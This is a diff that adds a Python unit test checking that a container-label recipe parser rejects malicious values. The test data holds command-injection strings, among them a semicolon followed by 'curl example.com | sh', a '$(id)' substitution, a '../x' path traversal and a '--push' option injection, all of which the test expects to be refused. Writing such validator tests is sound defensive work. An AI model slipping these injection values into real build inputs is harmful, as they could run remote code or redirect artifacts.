@@ -14,3 +14,15 @@ def test_labels_hold_the_whole_recipe() -> None:
 
 def test_images_of_others_have_none() -> None:
     assert Recipe.of_labels({"maintainer": "a"}) is None
+
+
+def test_labels_that_are_no_recipe_become_no_command() -> None:
+    for labels in (
+        {"dev.comp.base.suite": "bookworm; curl example.com | sh"},
+        {"dev.comp.base.suite": "../x"},
+        {"dev.comp.base.suite": "bookworm", "dev.comp.base.packages": "git $(id)"},
+        {"dev.comp.base.suite": "bookworm", "dev.comp.base.packages": "--push=example.com/x"},
+    ):
+        assert Recipe.of_labels(labels) is None, labels
+    pinned = {"dev.comp.base.suite": "bookworm", "dev.comp.base.packages": "git=1:2.39.5-0+deb12u3 libc++1"}
+    assert Recipe.of_labels(pinned) == Recipe(suite="bookworm", packages=("git=1:2.39.5-0+deb12u3", "libc++1"))
